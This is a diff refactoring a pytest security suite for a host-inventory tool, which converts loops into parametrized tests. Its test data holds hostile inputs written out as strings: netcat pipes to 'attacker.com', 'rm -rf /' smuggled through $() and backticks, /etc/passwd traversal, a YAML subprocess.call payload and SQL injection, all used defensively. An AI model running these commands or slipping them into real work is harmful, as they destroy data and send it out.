@@ -5,11 +5,14 @@ Tests for security vulnerabilities, input validation, and protection
 against common attack vectors.
 """
 
+import logging
 import os
+import re
 import stat
-import tempfile
+import threading
+from io import StringIO
 from pathlib import Path
-from unittest.mock import patch, mock_open
+from unittest.mock import patch
 
 import pytest
 
@@ -17,11 +20,26 @@ from scripts.core.utils import (
     load_csv_data,
     load_hosts_from_csv,
     save_yaml_file,
-    validate_csv_headers,
     validate_csv_structure,
 )
-from scripts.managers.inventory_manager import InventoryManager
-from scripts.managers.validation_manager import ValidationManager
+from scripts.core.config import load_config
+from scripts.core.models import Host
+
+
+def _any_of(*literals):
+    """Compile a pattern finding all of ``literals`` in one scan of the text.
+
+    Pass ``bytes`` literals to scan file contents without decoding them.
+    """
+    separator = b"|" if isinstance(literals[0], bytes) else "|"
+    return re.compile(separator.join(map(re.escape, literals)))
+
+
+# Sensitive CSV values that must never reach generated output
+_INVENTORY_SECRETS = _any_of(
+    b"password123", b"admin123", b"sk-1234567890abcdef", b"secret_token_abc123"
+)
+_LOGGED_SECRETS = _any_of("secret123", "4532-1234-5678-9012")
 
 
 class TestInputValidation:
@@ -50,7 +68,8 @@ unicode-host,production,active,web_server,"🚨💀🔥"
         assert len(data) == 7
         
         # Check that dangerous characters are preserved as strings (not executed)
-        injection_host = next(row for row in data if row["hostname"] == "injection-host")
+        by_host = {row["hostname"]: row for row in data}
+        injection_host = by_host["injection-host"]
         assert "DROP TABLE" in injection_host["description"]
         assert isinstance(injection_host["description"], str)
         
@@ -59,9 +78,10 @@ unicode-host,production,active,web_server,"🚨💀🔥"
         assert len(hosts) == 7
         
         # Verify no code execution occurred
+        valid_environments = {"production", "development", "test", "acceptance"}
         for host in hosts:
             assert isinstance(host.hostname, str)
-            assert host.environment in ["production", "development", "test", "acceptance"]
+            assert host.environment in valid_environments
     
     def test_csv_header_injection(self, tmp_path):
         """Test CSV header injection attempts."""
@@ -105,8 +125,9 @@ relative-path,production,active,web_server,./config/../../../etc/shadow
             if hasattr(host, 'config_file') and host.metadata.get('config_file'):
                 config_file = host.metadata['config_file']
                 assert isinstance(config_file, str)
-                # Should not actually access these files
-                assert not Path(config_file).exists() or config_file.startswith('/etc/')
+                # Should not actually access these files; the string check
+                # runs first so only paths outside /etc/ are stat'ed
+                assert config_file.startswith('/etc/') or not Path(config_file).exists()
     
     def test_command_injection_prevention(self, tmp_path):
         """Test prevention of command injection."""
@@ -134,7 +155,7 @@ dollar-host,production,active,web_server,"systemctl start nginx $(rm -rf /)"
                 if "injection-host" in host.hostname:
                     assert "rm -rf" in command
     
-    def test_yaml_injection_prevention(self, tmp_path):
+    def test_yaml_injection_prevention(self, tmp_path, load_yaml):
         """Test prevention of YAML injection attacks."""
         yaml_file = tmp_path / "test_output.yml"
         
@@ -153,9 +174,7 @@ dollar-host,production,active,web_server,"systemctl start nginx $(rm -rf /)"
         assert yaml_file.exists()
         
         # Read back and verify no code execution
-        import yaml
-        with open(yaml_file, 'r') as f:
-            loaded_data = yaml.safe_load(f)
+        loaded_data = load_yaml(yaml_file)
         
         # Should load as strings, not execute code
         assert loaded_data["normal_key"] == "normal_value"
@@ -166,36 +185,29 @@ dollar-host,production,active,web_server,"systemctl start nginx $(rm -rf /)"
 class TestFileSystemSecurity:
     """Test file system security and permissions."""
     
-    def test_file_permission_validation(self, tmp_path):
+    @pytest.mark.parametrize("perm,should_work", [
+        (0o644, True),   # Read/write for owner, read for group/others
+        (0o600, True),   # Read/write for owner only
+        (0o444, True),   # Read-only for all
+        (0o000, False),  # No permissions
+    ])
+    def test_file_permission_validation(self, tmp_path, perm, should_work):
         """Test file permission validation."""
         csv_file = tmp_path / "permissions.csv"
         csv_content = "hostname,environment,status\ntest-host,production,active"
         csv_file.write_text(csv_content)
+        csv_file.chmod(perm)
         
-        # Test with various permissions
-        test_permissions = [
-            (0o644, True),   # Read/write for owner, read for group/others
-            (0o600, True),   # Read/write for owner only
-            (0o444, True),   # Read-only for all
-            (0o000, False),  # No permissions
-        ]
-        
-        for perm, should_work in test_permissions:
-            csv_file.chmod(perm)
-            
-            if should_work:
-                # Should be able to read
-                data = load_csv_data(csv_file)
-                assert len(data) == 1
-            else:
-                # Should fail gracefully
-                with pytest.raises(PermissionError):
-                    load_csv_data(csv_file)
-        
-        # Restore permissions for cleanup
-        csv_file.chmod(0o644)
+        if should_work:
+            # Should be able to read
+            data = load_csv_data(csv_file)
+            assert len(data) == 1
+        else:
+            # Should fail gracefully
+            with pytest.raises(PermissionError):
+                load_csv_data(csv_file)
     
-    def test_directory_traversal_protection(self, tmp_path):
+    def test_directory_traversal_protection(self, tmp_path, make_manager):
         """Test protection against directory traversal."""
         # Create a CSV file outside the intended directory
         outside_dir = tmp_path / "outside"
@@ -208,7 +220,7 @@ class TestFileSystemSecurity:
         
         # Should handle path traversal safely
         try:
-            inventory_manager = InventoryManager(csv_file=csv_file)
+            inventory_manager = make_manager(csv_file)
             result = inventory_manager.generate_inventories()
             # If it works, verify it's reading the correct file
             assert result["status"] in ["success", "error"]
@@ -240,84 +252,77 @@ class TestFileSystemSecurity:
             # Symlinks might not be supported on all systems
             pytest.skip("Symlinks not supported on this system")
     
-    def test_file_creation_security(self, tmp_path):
+    def test_file_creation_security(self, tmp_path, make_manager):
         """Test secure file creation."""
         # Create inventory manager
         csv_file = tmp_path / "secure_test.csv"
         csv_content = "hostname,environment,status\ntest-host,production,active"
         csv_file.write_text(csv_content)
         
-        inventory_manager = InventoryManager(csv_file=csv_file)
+        inventory_manager = make_manager(csv_file)
         result = inventory_manager.generate_inventories()
         
         if result["status"] == "success":
             # Check permissions of created files
             for file_path in result["generated_files"]:
-                file_stat = Path(file_path).stat()
-                file_perms = stat.filemode(file_stat.st_mode)
+                mode = os.stat(file_path).st_mode
                 
                 # Should not be world-writable
-                assert not (file_stat.st_mode & stat.S_IWOTH)
+                assert not (mode & stat.S_IWOTH)
                 
                 # Should be readable by owner
-                assert file_stat.st_mode & stat.S_IRUSR
+                assert mode & stat.S_IRUSR
 
 
 class TestDataValidationSecurity:
     """Test data validation for security issues."""
     
-    def test_hostname_validation_security(self):
+    @pytest.mark.parametrize("hostname", [
+        "host;rm -rf /",
+        "host`rm -rf /`",
+        "host$(rm -rf /)",
+        "host|nc attacker.com 1234",
+        "host&calc",
+        "host\x00.example.com",
+        "host\n.example.com",
+        "host\r.example.com",
+        "host\t.example.com",
+        "../../../etc/passwd",
+        "CON",  # Windows reserved name
+        "PRN",  # Windows reserved name
+        "aux",  # Windows reserved name
+    ])
+    def test_hostname_validation_security(self, hostname):
         """Test hostname validation prevents malicious hostnames."""
-        malicious_hostnames = [
-            "host;rm -rf /",
-            "host`rm -rf /`",
-            "host$(rm -rf /)",
-            "host|nc attacker.com 1234",
-            "host&calc",
-            "host\x00.example.com",
-            "host\n.example.com",
-            "host\r.example.com",
-            "host\t.example.com",
-            "../../../etc/passwd",
-            "CON",  # Windows reserved name
-            "PRN",  # Windows reserved name
-            "aux",  # Windows reserved name
-        ]
-        
-        for hostname in malicious_hostnames:
-            # Should either reject or sanitize malicious hostnames
-            try:
-                from scripts.core.models import Host
-                host = Host(environment="production", hostname=hostname)
-                # If accepted, should be sanitized
-                assert host.hostname != hostname or hostname in ["CON", "PRN", "aux"]
-            except ValueError:
-                # Expected for malicious hostnames
-                pass
+        # Should either reject or sanitize malicious hostnames
+        try:
+            host = Host(environment="production", hostname=hostname)
+            # If accepted, should be sanitized
+            assert host.hostname != hostname or hostname in ["CON", "PRN", "aux"]
+        except ValueError:
+            # Expected for malicious hostnames
+            pass
     
-    def test_environment_validation_security(self):
+    @pytest.mark.parametrize("env", [
+        "production; rm -rf /",
+        "production`calc`",
+        "production$(rm -rf /)",
+        "production|nc attacker.com 1234",
+        "production\x00",
+        "production\n",
+        "production\r",
+        "../../../etc/passwd",
+        "production' OR '1'='1",
+    ])
+    def test_environment_validation_security(self, env):
         """Test environment validation prevents injection."""
-        malicious_environments = [
-            "production; rm -rf /",
-            "production`calc`",
-            "production$(rm -rf /)",
-            "production|nc attacker.com 1234",
-            "production\x00",
-            "production\n",
-            "production\r",
-            "../../../etc/passwd",
-            "production' OR '1'='1",
-        ]
-        
-        for env in malicious_environments:
-            try:
-                from scripts.core.models import Host
-                host = Host(environment=env)
-                # Should either reject or be in valid environments
-                assert host.environment in ["production", "development", "test", "acceptance"]
-            except ValueError:
-                # Expected for malicious environments
-                pass
+        try:
+            host = Host(environment=env)
+            # Should either reject or be in valid environments
+            assert host.environment in ["production", "development", "test", "acceptance"]
+        except ValueError:
+            # Expected for malicious environments
+            pass
     
     def test_csv_structure_validation_security(self, tmp_path):
         """Test CSV structure validation for security."""
@@ -335,7 +340,7 @@ class TestDataValidationSecurity:
         csv_file.write_text(malicious_csv)
         
         # Validate structure
-        result = validate_csv_structure(csv_file)
+        result = validate_csv_structure(csv_file, headers_only=True)
         
         # Should handle malicious content safely
         assert isinstance(result.is_valid, bool)
@@ -346,12 +351,17 @@ class TestDataValidationSecurity:
         """Test protection against DoS via large data."""
         csv_file = tmp_path / "large_data.csv"
         
-        # Create CSV with very large field
-        large_field = "A" * 1000000  # 1MB field
-        csv_content = f"hostname,environment,status,description\nlarge-host,production,active,{large_field}"
+        # Create CSV with very large field, written without building the
+        # whole document as one string
+        large_field = b"A" * 1000000  # 1MB field
         
         try:
-            csv_file.write_text(csv_content)
+            with csv_file.open("wb") as f:
+                f.writelines([
+                    b"hostname,environment,status,description\n",
+                    b"large-host,production,active,",
+                    large_field,
+                ])
             
             # Should handle large data gracefully
             data = load_csv_data(csv_file)
@@ -376,59 +386,35 @@ host-c,production,active,host-a
 """
         csv_file.write_text(csv_content)
         
-        # Should handle circular references without infinite loops
-        import threading
-        
-        # Cross-platform timeout implementation using threading
+        # Should handle circular references without infinite loops. Parse in
+        # a daemon thread so a runaway load fails the test instead of hanging
         result = {}
-        timeout_occurred = threading.Event()
         
         def run_test():
             """Run the test in a separate thread."""
             try:
-                hosts = load_hosts_from_csv(csv_file)
-                result['hosts'] = hosts
-                result['success'] = True
+                result['hosts'] = load_hosts_from_csv(csv_file)
             except Exception as e:
                 result['error'] = e
-                result['success'] = False
         
-        def timeout_handler():
-            """Handle timeout by setting the timeout event."""
-            timeout_occurred.set()
+        test_thread = threading.Thread(target=run_test, daemon=True)
+        test_thread.start()
+        test_thread.join(timeout=30.0)
         
-        # Start the test in a separate thread
-        test_thread = threading.Thread(target=run_test)
-        timeout_timer = threading.Timer(30.0, timeout_handler)  # 30 second timeout
+        if test_thread.is_alive():
+            pytest.fail("Processing took too long - possible infinite loop")
+        if 'error' in result:
+            # Re-raise the exception from the test thread
+            raise result['error']
         
-        try:
-            test_thread.start()
-            timeout_timer.start()
-            
-            # Wait for either completion or timeout
-            test_thread.join(timeout=30.0)
-            
-            if timeout_occurred.is_set():
-                pytest.fail("Processing took too long - possible infinite loop")
-            elif test_thread.is_alive():
-                pytest.fail("Processing took too long - possible infinite loop")
-            elif result.get('success'):
-                hosts = result['hosts']
-                assert len(hosts) == 3
-                
-                # Verify circular reference is handled
-                for host in hosts:
-                    if 'parent_host' in host and host['parent_host'].strip():
-                        parent = host['parent_host']
-                        assert isinstance(parent, str)
-            else:
-                # Re-raise the exception from the test thread
-                raise result.get('error', Exception("Test failed"))
-        finally:
-            timeout_timer.cancel()
-            if test_thread.is_alive():
-                # Force cleanup if thread is still running (shouldn't happen in normal cases)
-                pass
+        hosts = result['hosts']
+        assert len(hosts) == 3
+        
+        # Verify circular reference is handled
+        for host in hosts:
+            if 'parent_host' in host and host['parent_host'].strip():
+                parent = host['parent_host']
+                assert isinstance(parent, str)
 
 
 class TestConfigurationSecurity:
@@ -455,7 +441,6 @@ another_key: !!python/object/apply:subprocess.call [['rm', '-rf', '/']]
         # Should handle malicious config safely
         try:
             with patch('scripts.core.config.CONFIG_FILE', config_file):
-                from scripts.core.config import load_config
                 config = load_config()
                 
                 # Should load safely without executing code
@@ -470,33 +455,30 @@ another_key: !!python/object/apply:subprocess.call [['rm', '-rf', '/']]
             # Expected if YAML loading fails safely
             pass
     
-    def test_environment_variable_injection(self):
+    @pytest.mark.parametrize("var,value", [
+        ("INVENTORY_CSV_FILE", "/etc/passwd"),
+        ("INVENTORY_LOG_LEVEL", "DEBUG; rm -rf /"),
+        ("INVENTORY_SUPPORT_GROUP", "$(rm -rf /)"),
+        ("PATH", "/tmp:$PATH"),
+    ])
+    def test_environment_variable_injection(self, var, value):
         """Test protection against environment variable injection."""
-        malicious_env_vars = {
-            "INVENTORY_CSV_FILE": "/etc/passwd",
-            "INVENTORY_LOG_LEVEL": "DEBUG; rm -rf /",
-            "INVENTORY_SUPPORT_GROUP": "$(rm -rf /)",
-            "PATH": "/tmp:$PATH",
-        }
-        
-        for var, value in malicious_env_vars.items():
-            with patch.dict(os.environ, {var: value}):
-                try:
-                    # Should handle malicious environment variables safely
-                    from scripts.core.config import load_config
-                    config = load_config()
-                    
-                    # Should not execute malicious commands
-                    assert isinstance(config, dict)
-                except Exception:
-                    # Expected if validation fails
-                    pass
+        with patch.dict(os.environ, {var: value}):
+            try:
+                # Should handle malicious environment variables safely
+                config = load_config()
+                
+                # Should not execute malicious commands
+                assert isinstance(config, dict)
+            except Exception:
+                # Expected if validation fails
+                pass
 
 
 class TestOutputSecurity:
     """Test output security and information disclosure."""
     
-    def test_sensitive_data_exposure(self, tmp_path):
+    def test_sensitive_data_exposure(self, tmp_path, make_manager):
         """Test prevention of sensitive data exposure."""
         csv_file = tmp_path / "sensitive.csv"
         
@@ -511,21 +493,17 @@ api-01,production,active,admin123,ak-abcdef1234567890,token_xyz789
         hosts = load_hosts_from_csv(csv_file)
         
         # Generate inventory
-        inventory_manager = InventoryManager(csv_file=csv_file)
+        inventory_manager = make_manager(csv_file)
         result = inventory_manager.generate_inventories()
         
         if result["status"] == "success":
             # Check generated files don't expose sensitive data in plain text
             for file_path in result["generated_files"]:
-                content = Path(file_path).read_text()
+                content = Path(file_path).read_bytes()
                 
-                # Should not contain obvious passwords in inventory files
-                assert "password123" not in content
-                assert "admin123" not in content
-                
-                # API keys and tokens should be in host_vars, not inventory
-                assert "sk-1234567890abcdef" not in content
-                assert "secret_token_abc123" not in content
+                # No passwords in inventory files; API keys and tokens belong
+                # in host_vars, not inventory
+                assert not set(_INVENTORY_SECRETS.findall(content))
     
     def test_error_message_information_disclosure(self, tmp_path):
         """Test that error messages don't disclose sensitive information."""
@@ -552,9 +530,6 @@ web-01,production,active,secret123,4532-1234-5678-9012
         csv_file.write_text(sensitive_content)
         
         # Process with logging
-        import logging
-        from io import StringIO
-        
         log_stream = StringIO()
         handler = logging.StreamHandler(log_stream)
         
@@ -567,7 +542,6 @@ web-01,production,active,secret123,4532-1234-5678-9012
             log_output = log_stream.getvalue()
             
             # Logs should not contain sensitive data
-            assert "secret123" not in log_output
-            assert "4532-1234-5678-9012" not in log_output
+            assert not set(_LOGGED_SECRETS.findall(log_output))
         finally:
             logger.removeHandler(handler) 
\ No newline at end of file